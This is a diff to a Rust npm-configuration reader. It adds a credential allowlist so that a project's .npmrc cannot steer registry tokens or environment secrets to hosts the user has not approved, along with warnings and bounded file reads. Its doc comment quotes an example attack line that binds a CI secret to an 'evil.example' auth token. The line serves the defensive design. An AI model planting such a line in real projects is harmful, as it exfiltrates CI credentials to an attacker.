@@ -5,7 +5,7 @@
 //! (`npm_config_<key>` / `NPM_CONFIG_<KEY>`), the project `.npmrc`, the user config
 //! (`$NPM_CONFIG_USERCONFIG`, else `~/.npmrc`), the global config (`$NPM_CONFIG_GLOBALCONFIG`
 //! when set). Values may use `${NAME}` to read an environment variable; an unset variable is
-//! an error, as in npm 9+.
+//! an error, as in npm 9+. Every file is read size-bounded ([`crate::bounded`]).
 //!
 //! Keys used: `registry`, `@scope:registry`, `//host/path/:_authToken`, `//host/path/:_auth`,
 //! `//host/path/:username` + `:_password` (base64), top-level `_auth` (legacy, default registry
@@ -14,14 +14,37 @@
 //!
 //! Credentials are [`Secret`]s: `Debug` and `Display` print `***`, and a token is only sent to
 //! URLs under the "nerf dart" (`//host[:port]/path/`) it was configured for.
+//!
+//! ## Trust boundary: the project `.npmrc`
+//! The project's `.npmrc` arrives with the code under review (a pull request can add
+//! `//evil.example/:_authToken=${CI_SECRET}`), so it cannot steer credentials:
+//! - credentials come from configuration outside the project (user and global `.npmrc`,
+//!   `npm_config_*` variables), each sent only to the host and path it was configured for;
+//! - a credential the project `.npmrc` configures is used only for a host on the user's
+//!   [`CredentialAllowlist`] (`--allow-project-credentials HOST` or
+//!   `$DILIGENCE_ALLOW_PROJECT_CREDENTIALS`, never a project file); otherwise it is dropped;
+//! - `${VAR}` in a project `.npmrc` value is expanded only when the value is bound to an
+//!   allowlisted host (a `//host/…:` key, or a URL whose host is written literally); other
+//!   such keys are ignored, so no environment value leaves the process;
+//! - when the project `.npmrc` changes how TLS or proxies work (`proxy`, `https-proxy`,
+//!   `strict-ssl=false`, `ca`, `cafile`), credentials are sent to allowlisted hosts only, since
+//!   such settings let a proxy of the project's choosing read them.
+//!
+//! Each refusal is a [`ConfigWarning`] (`file:line`, key, host, variable names; never a
+//! value), reported by `audit` as `registry/project-credentials` findings.
 
+use crate::bounded::{self, BoundedReadError};
 use base64::Engine;
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 use std::fmt;
 use std::path::{Path, PathBuf};
 
 /// The public npm registry, npm's default `registry`.
 pub const DEFAULT_REGISTRY: &str = "https://registry.npmjs.org/";
+
+/// Environment variable of the user's [`CredentialAllowlist`]: hosts (`host` or `host:port`),
+/// separated by commas or spaces.
+pub const ALLOW_PROJECT_CREDENTIALS_ENV: &str = "DILIGENCE_ALLOW_PROJECT_CREDENTIALS";
 
 /// Hosts that serve the public npm registry's tarballs under the same paths. A lockfile
 /// written against one of these maps onto any configured registry (npm's
@@ -88,6 +111,161 @@ pub struct ConfigError {
     pub message: String,
 }
 
+/// The hosts to which credentials configured in a project `.npmrc` may be sent. A user-level
+/// setting: the `--allow-project-credentials` flag and `$DILIGENCE_ALLOW_PROJECT_CREDENTIALS`,
+/// never a file inside the project.
+///
+/// Entries are `host` (the default port of the URL's scheme only) or `host:port`; a URL
+/// (`https://npm.corp.example/`) or nerf dart (`//npm.corp.example/`) is reduced to its
+/// host and port. Hosts compare case-insensitively.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct CredentialAllowlist {
+    authorities: BTreeSet<String>,
+}
+
+impl CredentialAllowlist {
+    /// An allowlist of `entries`. Errors on an entry with no host, or with `@`, spaces or a
+    /// non-numeric port, naming it.
+    pub fn new<'a>(
+        entries: impl IntoIterator<Item = &'a str>,
+    ) -> Result<CredentialAllowlist, String> {
+        let mut authorities = BTreeSet::new();
+        for entry in entries {
+            let entry = entry.trim();
+            if entry.is_empty() {
+                continue;
+            }
+            let rest = match entry.find("//") {
+                Some(i) => &entry[i + 2..],
+                None => entry,
+            };
+            let authority = rest.split('/').next().unwrap_or("").to_ascii_lowercase();
+            let (host, port) = match authority.rsplit_once(':') {
+                Some((h, p)) => (h, Some(p)),
+                None => (authority.as_str(), None),
+            };
+            let valid = !host.is_empty()
+                && !authority.contains(['@', ' ', '\t', '?', '#'])
+                && port.is_none_or(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()));
+            if !valid {
+                return Err(format!(
+                    "credential allowlist entry `{entry}`: expected host or host:port"
+                ));
+            }
+            authorities.insert(authority);
+        }
+        Ok(CredentialAllowlist { authorities })
+    }
+
+    /// The allowlist in `$DILIGENCE_ALLOW_PROJECT_CREDENTIALS` of `env` plus `extra` (the
+    /// command-line entries).
+    pub fn from_env_and(
+        env: &[(String, String)],
+        extra: &[String],
+    ) -> Result<CredentialAllowlist, String> {
+        let from_env: Vec<&str> = env
+            .iter()
+            .filter(|(k, _)| k == ALLOW_PROJECT_CREDENTIALS_ENV)
+            .flat_map(|(_, v)| v.split([',', ' ', '\n']))
+            .collect();
+        CredentialAllowlist::new(from_env.into_iter().chain(extra.iter().map(String::as_str)))
+    }
+
+    /// True when `authority` (`host` or `host:port`, as in a nerf dart) is allowlisted.
+    pub fn allows(&self, authority: &str) -> bool {
+        self.authorities.contains(&authority.to_ascii_lowercase())
+    }
+
+    /// True when nothing is allowlisted.
+    pub fn is_empty(&self) -> bool {
+        self.authorities.is_empty()
+    }
+}
+
+/// Something the project `.npmrc` asked for that was refused (see the module doc). Displays
+/// as one line naming the file, line, key, host and variables, never a value.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ConfigWarning {
+    /// The project `.npmrc` path.
+    pub file: String,
+    /// 1-based line of the key.
+    pub line: u32,
+    /// The key as written (`//evil.example/:_authToken`).
+    pub key: String,
+    /// The host (`host` or `host:port`) the value is bound to, when it names one.
+    pub host: Option<String>,
+    /// What was refused.
+    pub kind: ConfigWarningKind,
+}
+
+/// The kinds of [`ConfigWarning`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ConfigWarningKind {
+    /// `${VAR}` in the value was not expanded and the key was ignored: its host is not
+    /// allowlisted (or not written literally). Carries the variable names.
+    EnvNotExpanded { variables: Vec<String> },
+    /// A credential the project configures for a host not on the allowlist: not sent.
+    CredentialWithheld,
+    /// The project changes TLS or proxy settings with this key: credentials configured
+    /// outside the project are sent to allowlisted hosts only.
+    TransportSetting,
+}
+
+impl fmt::Display for ConfigWarning {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{}:{}: {}", self.file, self.line, self.message())
+    }
+}
+
+impl ConfigWarning {
+    /// The warning without its `file:line: ` prefix.
+    pub fn message(&self) -> String {
+        let mut f = String::new();
+        let _ = self.write_message(&mut f);
+        f
+    }
+
+    fn write_message(&self, f: &mut String) -> fmt::Result {
+        use std::fmt::Write;
+        let host = self.host.as_deref().unwrap_or("the default registry");
+        let allow = match &self.host {
+            Some(h) => format!(
+                "allow it with --allow-project-credentials {h} or {ALLOW_PROJECT_CREDENTIALS_ENV}"
+            ),
+            None => "write the registry host literally and allowlist it".to_string(),
+        };
+        match &self.kind {
+            ConfigWarningKind::EnvNotExpanded { variables } => {
+                let vars: Vec<String> = variables.iter().map(|v| format!("${{{v}}}")).collect();
+                match &self.host {
+                    Some(host) => write!(
+                        f,
+                        "`{}` would send {} to {host}, which is not in the credential allowlist: not expanded, key ignored ({allow})",
+                        self.key,
+                        vars.join(", ")
+                    ),
+                    None => write!(
+                        f,
+                        "`{}` uses {}: a project .npmrc may read the environment only for allowlisted registry hosts written literally: not expanded, key ignored",
+                        self.key,
+                        vars.join(", ")
+                    ),
+                }
+            }
+            ConfigWarningKind::CredentialWithheld => write!(
+                f,
+                "`{}` sets a credential for {host}, which is not in the credential allowlist: not sent ({allow})",
+                self.key
+            ),
+            ConfigWarningKind::TransportSetting => write!(
+                f,
+                "the project sets `{}`: credentials configured outside the project are sent only to allowlisted hosts (--allow-project-credentials HOST or {ALLOW_PROJECT_CREDENTIALS_ENV})",
+                self.key
+            ),
+        }
+    }
+}
+
 /// The registry-relevant part of npm's configuration. `Debug` redacts credentials.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct NpmConfig {
@@ -95,7 +273,8 @@ pub struct NpmConfig {
     pub registry: String,
     /// `@scope` → registry URL (ending in `/`).
     pub scopes: BTreeMap<String, String>,
-    /// Nerf dart (`//host[:port]/path/`) → credential.
+    /// Nerf dart (`//host[:port]/path/`) → credential. Only credentials allowed across the
+    /// project trust boundary (module doc) are here.
     pub credentials: BTreeMap<String, Credential>,
     /// `strict-ssl` (default true): verify TLS certificates.
     pub strict_ssl: bool,
@@ -107,6 +286,8 @@ pub struct NpmConfig {
     pub proxy: Option<String>,
     /// `noproxy`: comma-separated hosts not to proxy.
     pub noproxy: Vec<String>,
+    /// What the project `.npmrc` asked for and was refused, in file order.
+    pub warnings: Vec<ConfigWarning>,
 }
 
 impl Default for NpmConfig {
@@ -120,6 +301,7 @@ impl Default for NpmConfig {
             ca: Vec::new(),
             proxy: None,
             noproxy: Vec::new(),
+            warnings: Vec::new(),
         }
     }
 }
@@ -127,25 +309,59 @@ impl Default for NpmConfig {
 /// Raw `key = value` pairs from one source, in file order, with the source's name.
 struct RawSource {
     name: String,
-    pairs: Vec<(String, String)>,
+    /// `(key, value, 1-based line)`; line 0 for the environment.
+    pairs: Vec<(String, String, u32)>,
+    /// The project `.npmrc`: on the far side of the trust boundary.
+    project: bool,
 }
+
+/// Keys whose project-level setting changes how TLS or proxies work.
+const TRANSPORT_KEYS: [&str; 4] = ["proxy", "https-proxy", "ca", "cafile"];
 
 impl NpmConfig {
     /// Loads configuration for a project folder the way npm does: environment, then
     /// `<project>/.npmrc`, then the user config, then the global config (when
-    /// `NPM_CONFIG_GLOBALCONFIG` names one). Missing files are skipped; an unreadable file or
-    /// an undefined `${VAR}` is an error naming the file and key.
+    /// `NPM_CONFIG_GLOBALCONFIG` names one). Missing files are skipped; an unreadable,
+    /// oversized or non-regular file, or an undefined `${VAR}`, is an error naming the file
+    /// and key. The credential allowlist comes from `$DILIGENCE_ALLOW_PROJECT_CREDENTIALS`.
     pub fn load(project_dir: &Path) -> Result<NpmConfig, ConfigError> {
-        let env: Vec<(String, String)> = std::env::vars().collect();
-        let home = dirs::home_dir();
-        Self::load_with(project_dir, home.as_deref(), &env)
+        Self::load_allowing(project_dir, &[])
     }
 
-    /// [`NpmConfig::load`] with explicit home folder and environment (for tests).
+    /// [`NpmConfig::load`] with `allow` (the `--allow-project-credentials` entries) added to
+    /// the allowlist from the environment.
+    pub fn load_allowing(project_dir: &Path, allow: &[String]) -> Result<NpmConfig, ConfigError> {
+        let env: Vec<(String, String)> = std::env::vars().collect();
+        let home = dirs::home_dir();
+        let allowlist =
+            CredentialAllowlist::from_env_and(&env, allow).map_err(|message| ConfigError {
+                source_name: "credential allowlist".into(),
+                message,
+            })?;
+        Self::load_with_allowlist(project_dir, home.as_deref(), &env, &allowlist)
+    }
+
+    /// [`NpmConfig::load`] with explicit home folder and environment (for tests); the
+    /// allowlist is `$DILIGENCE_ALLOW_PROJECT_CREDENTIALS` of `env`.
     pub fn load_with(
         project_dir: &Path,
         home: Option<&Path>,
         env: &[(String, String)],
+    ) -> Result<NpmConfig, ConfigError> {
+        let allowlist =
+            CredentialAllowlist::from_env_and(env, &[]).map_err(|message| ConfigError {
+                source_name: "credential allowlist".into(),
+                message,
+            })?;
+        Self::load_with_allowlist(project_dir, home, env, &allowlist)
+    }
+
+    /// The loader behind the others: explicit home folder, environment and allowlist.
+    pub fn load_with_allowlist(
+        project_dir: &Path,
+        home: Option<&Path>,
+        env: &[(String, String)],
+        allowlist: &CredentialAllowlist,
     ) -> Result<NpmConfig, ConfigError> {
         // npm's own variables are case-insensitive; `${VAR}` expansion is exact, as in a shell.
         let lookup = |k: &str| -> Option<String> {
@@ -159,7 +375,9 @@ impl NpmConfig {
                 .map(|(_, v)| v.clone())
         };
         let mut sources = vec![env_source(env)];
-        sources.push(read_file(&project_dir.join(".npmrc"))?);
+        let mut project = read_file(&project_dir.join(".npmrc"))?;
+        project.project = true;
+        sources.push(project);
         let user = lookup("npm_config_userconfig")
             .map(PathBuf::from)
             .or_else(|| home.map(|h| h.join(".npmrc")));
@@ -172,13 +390,14 @@ impl NpmConfig {
         // Lowest precedence first, so later sources override.
         let mut config = NpmConfig::default();
         for source in sources.iter().rev() {
-            config.apply(source, &exact)?;
+            config.apply(source, &exact, allowlist)?;
         }
+        config.withhold_after_transport_change(allowlist);
         Ok(config)
     }
 
-    /// Parses one `.npmrc` text (for tests and callers with their own files), over defaults.
-    /// `${VAR}` reads `env`.
+    /// Parses one `.npmrc` text (for tests and callers with their own files), over defaults,
+    /// as configuration from outside the project (credentials kept). `${VAR}` reads `env`.
     pub fn from_npmrc(
         name: &str,
         text: &str,
@@ -190,9 +409,10 @@ impl NpmConfig {
         let source = RawSource {
             name: name.to_string(),
             pairs: parse_ini(text),
+            project: false,
         };
         let mut config = NpmConfig::default();
-        config.apply(&source, &lookup)?;
+        config.apply(&source, &lookup, &CredentialAllowlist::default())?;
         Ok(config)
     }
 
@@ -200,13 +420,44 @@ impl NpmConfig {
         &mut self,
         source: &RawSource,
         lookup: &dyn Fn(&str) -> Option<String>,
+        allowlist: &CredentialAllowlist,
     ) -> Result<(), ConfigError> {
         let err = |message: String| ConfigError {
             source_name: source.name.clone(),
             message,
         };
+        let warn =
+            |key: &str, line: u32, host: Option<String>, kind: ConfigWarningKind| ConfigWarning {
+                file: source.name.clone(),
+                line,
+                key: key.to_string(),
+                host,
+                kind,
+            };
         let mut basic_parts: BTreeMap<String, (Option<String>, Option<String>)> = BTreeMap::new();
-        for (key, raw) in &source.pairs {
+        for (key, raw, line) in &source.pairs {
+            let line = *line;
+            let Some(bound) = key_binding(key) else {
+                continue;
+            };
+            let host = match bound {
+                Binding::KeyHost(h) => Some(h),
+                Binding::ValueUrl => literal_authority(raw),
+                Binding::Local => None,
+            };
+            let allowed = host.as_deref().is_some_and(|h| allowlist.allows(h));
+            if source.project && raw.contains("${") && !allowed {
+                let variables = variables_in(raw);
+                if !variables.is_empty() {
+                    self.warnings.push(warn(
+                        key,
+                        line,
+                        host,
+                        ConfigWarningKind::EnvNotExpanded { variables },
+                    ));
+                    continue;
+                }
+            }
             let value = expand_env(raw, lookup).map_err(|var| {
                 err(format!(
                     "`{key}` uses ${{{var}}}, which is not set in the environment"
@@ -216,6 +467,15 @@ impl NpmConfig {
                 let Some((prefix, field)) = rest.rsplit_once(':') else {
                     continue;
                 };
+                if source.project && !allowed {
+                    self.warnings.push(warn(
+                        key,
+                        line,
+                        host,
+                        ConfigWarningKind::CredentialWithheld,
+                    ));
+                    continue;
+                }
                 let dart = nerf_dart_key(prefix);
                 match field {
                     "_authToken" => {
@@ -238,10 +498,27 @@ impl NpmConfig {
                 }
                 continue;
             }
+            if source.project
+                && (TRANSPORT_KEYS.contains(&key.as_str())
+                    || (key == "strict-ssl" && value.trim() == "false"))
+            {
+                self.warnings
+                    .push(warn(key, line, None, ConfigWarningKind::TransportSetting));
+            }
             match key.as_str() {
                 "registry" => self.registry = with_slash(&value),
                 "_auth" => {
                     let dart = nerf_dart(&self.registry).unwrap_or_default();
+                    let authority = dart_authority(&dart);
+                    if source.project && !allowlist.allows(authority) {
+                        self.warnings.push(warn(
+                            key,
+                            line,
+                            Some(authority.to_string()),
+                            ConfigWarningKind::CredentialWithheld,
+                        ));
+                        continue;
+                    }
                     self.credentials
                         .insert(dart, Credential::Basic(Secret::new(value)));
                 }
@@ -275,6 +552,19 @@ impl NpmConfig {
         Ok(())
     }
 
+    /// After a project-level TLS or proxy change, keeps only credentials for allowlisted
+    /// hosts.
+    fn withhold_after_transport_change(&mut self, allowlist: &CredentialAllowlist) {
+        let changed = self
+            .warnings
+            .iter()
+            .any(|w| w.kind == ConfigWarningKind::TransportSetting);
+        if changed {
+            self.credentials
+                .retain(|dart, _| allowlist.allows(dart_authority(dart)));
+        }
+    }
+
     /// The registry for a package name: the `@scope:registry` of its scope, else `registry`.
     pub fn registry_for(&self, package: &str) -> &str {
         scope_of(package)
@@ -301,6 +591,71 @@ impl NpmConfig {
             dart = trimmed[..=cut].to_string();
         }
     }
+}
+
+/// What a key's value is sent to, for the project trust boundary.
+enum Binding {
+    /// `//host[:port]/path/:field`: the host in the key (lowercase authority).
+    KeyHost(String),
+    /// `registry`, `@scope:registry`, `proxy`, `https-proxy`: the URL in the value.
+    ValueUrl,
+    /// A local setting (`strict-ssl`, `cafile`, `ca`, `noproxy`, top-level `_auth`).
+    Local,
+}
+
+/// How a used key binds to a host; `None` for keys this reader ignores.
+fn key_binding(key: &str) -> Option<Binding> {
+    if let Some(rest) = key.strip_prefix("//") {
+        let (prefix, _) = rest.rsplit_once(':')?;
+        return Some(Binding::KeyHost(
+            dart_authority(&nerf_dart_key(prefix)).to_ascii_lowercase(),
+        ));
+    }
+    if key.ends_with(":registry") {
+        return Some(Binding::ValueUrl);
+    }
+    match key {
+        "registry" | "proxy" | "https-proxy" => Some(Binding::ValueUrl),
+        "strict-ssl" | "cafile" | "ca" | "noproxy" | "_auth" => Some(Binding::Local),
+        _ => None,
+    }
+}
+
+/// `host[:port]` of a nerf dart `//host[:port]/path/`.
+fn dart_authority(dart: &str) -> &str {
+    let rest = dart.strip_prefix("//").unwrap_or(dart);
+    rest.split('/').next().unwrap_or("")
+}
+
+/// The authority (`host[:port]`, lowercase) of a URL value when it is written literally,
+/// before any `${…}`: `https://npm.corp.example/${PATH}` gives `npm.corp.example`;
+/// `https://${HOST}/` gives `None`.
+fn literal_authority(raw: &str) -> Option<String> {
+    let (_, rest) = raw.trim().split_once("://")?;
+    let end = rest.find('/')?;
+    let authority = &rest[..end];
+    if authority.is_empty() || authority.contains("${") || authority.contains('@') {
+        return None;
+    }
+    Some(authority.to_ascii_lowercase())
+}
+
+/// The names of the `${NAME}` / `${NAME?}` references in a value.
+fn variables_in(raw: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut rest = raw;
+    while let Some(start) = rest.find("${") {
+        let escaped = start > 0 && rest.as_bytes()[start - 1] == b'\\';
+        let Some(len) = rest[start + 2..].find('}') else {
+            break;
+        };
+        if !escaped {
+            let name = rest[start + 2..start + 2 + len].trim_end_matches('?');
+            out.push(name.to_string());
+        }
+        rest = &rest[start + 3 + len..];
+    }
+    out
 }
 
 /// The scope of a package name (`@types` for `@types/node`), or `None` when unscoped.
@@ -378,9 +733,10 @@ fn expand_env(value: &str, lookup: &dyn Fn(&str) -> Option<String>) -> Result<St
 
 /// Parses npm's INI dialect: `key = value` lines, `;`/`#` comments, `[section]` headers
 /// ignored (npm flattens them), quoted values unquoted, `key[] = v` treated as `key = v`.
-fn parse_ini(text: &str) -> Vec<(String, String)> {
+/// Returns `(key, value, 1-based line)`.
+fn parse_ini(text: &str) -> Vec<(String, String, u32)> {
     let mut pairs = Vec::new();
-    for line in text.lines() {
+    for (i, line) in text.lines().enumerate() {
         let line = line.trim();
         if line.is_empty() || line.starts_with(';') || line.starts_with('#') {
             continue;
@@ -393,7 +749,7 @@ fn parse_ini(text: &str) -> Vec<(String, String)> {
         };
         let key = key.trim().trim_end_matches("[]").to_string();
         let value = unquote(value.trim());
-        pairs.push((key, value));
+        pairs.push((key, value, (i + 1) as u32));
     }
     pairs
 }
@@ -409,22 +765,33 @@ fn unquote(value: &str) -> String {
     }
 }
 
+/// Reads one `.npmrc`, at most [`bounded::MAX_NPMRC_BYTES`]; a missing file is empty.
 fn read_file(path: &Path) -> Result<RawSource, ConfigError> {
     let name = path.display().to_string();
-    match std::fs::read_to_string(path) {
-        Ok(text) => Ok(RawSource {
-            name,
-            pairs: parse_ini(&text),
-        }),
-        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(RawSource {
-            name,
-            pairs: Vec::new(),
-        }),
-        Err(e) => Err(ConfigError {
-            source_name: name,
-            message: format!("cannot read: {e}"),
-        }),
-    }
+    let empty = |name| RawSource {
+        name,
+        pairs: Vec::new(),
+        project: false,
+    };
+    let bytes = match bounded::read_bounded(path, bounded::MAX_NPMRC_BYTES) {
+        Ok(b) => b,
+        Err(BoundedReadError::NotFound) => return Ok(empty(name)),
+        Err(e) => {
+            return Err(ConfigError {
+                source_name: name,
+                message: e.to_string(),
+            });
+        }
+    };
+    let text = String::from_utf8(bytes).map_err(|_| ConfigError {
+        source_name: name.clone(),
+        message: "not UTF-8 text".into(),
+    })?;
+    Ok(RawSource {
+        name,
+        pairs: parse_ini(&text),
+        project: false,
+    })
 }
 
 /// `npm_config_<key>` variables (any case) as config pairs. npm maps `_` to `-` in ordinary
@@ -445,11 +812,12 @@ fn env_source(env: &[(String, String)]) -> RawSource {
         if key == "userconfig" || key == "globalconfig" {
             continue;
         }
-        pairs.push((key, value.clone()));
+        pairs.push((key, value.clone(), 0));
     }
     RawSource {
         name: "environment".to_string(),
         pairs,
+        project: false,
     }
 }
 
@@ -536,6 +904,13 @@ mod tests {
         let c = NpmConfig::load_with(dir.path(), Some(home.path()), &e).unwrap();
         assert_eq!(c.registry, "https://project.example/");
         assert!(c.strict_ssl);
+        // A project credential needs the host on the user's allowlist.
+        assert!(c.credential_for("https://project.example/x").is_none());
+        let e = env(&[
+            ("npm_config_strict_ssl", "true"),
+            (ALLOW_PROJECT_CREDENTIALS_ENV, "project.example"),
+        ]);
+        let c = NpmConfig::load_with(dir.path(), Some(home.path()), &e).unwrap();
         let cred = c.credential_for("https://project.example/x").unwrap();
         assert_eq!(cred.header_value(), "Basic dTpwYXNz");
         let e = env(&[("NPM_CONFIG_REGISTRY", "https://env.example")]);
@@ -554,6 +929,37 @@ mod tests {
         let cred = c.credential_for("https://r.example/npm/ms").unwrap();
         assert_eq!(cred.header_value(), "Basic dTpw");
         assert!(c.credential_for("https://other.example/npm/ms").is_none());
+    }
+
+    #[test]
+    fn allowlist_entries() {
+        let a = CredentialAllowlist::new([
+            "npm.corp.example",
+            "https://NPM.pkg.github.com/",
+            "//127.0.0.1:4873/x/",
+        ])
+        .unwrap();
+        assert!(a.allows("npm.corp.example"));
+        assert!(a.allows("npm.pkg.github.com"));
+        assert!(a.allows("127.0.0.1:4873"));
+        assert!(!a.allows("127.0.0.1"));
+        assert!(!a.allows("npm.corp.example:8443"));
+        assert!(CredentialAllowlist::new(["user@evil.example"]).is_err());
+        assert!(CredentialAllowlist::new(["host:port"]).is_err());
+        let e = env(&[(ALLOW_PROJECT_CREDENTIALS_ENV, "a.example, b.example")]);
+        let a = CredentialAllowlist::from_env_and(&e, &["c.example".into()]).unwrap();
+        assert!(a.allows("a.example") && a.allows("b.example") && a.allows("c.example"));
+    }
+
+    #[test]
+    fn literal_hosts_of_url_values() {
+        assert_eq!(
+            literal_authority("https://npm.corp.example/${P}/"),
+            Some("npm.corp.example".into())
+        );
+        assert_eq!(literal_authority("https://${HOST}/"), None);
+        assert_eq!(literal_authority("https://u:${T}@h.example/"), None);
+        assert_eq!(variables_in("a${X}b\\${Y}${Z?}"), vec!["X", "Z"]);
     }
 
     #[test]
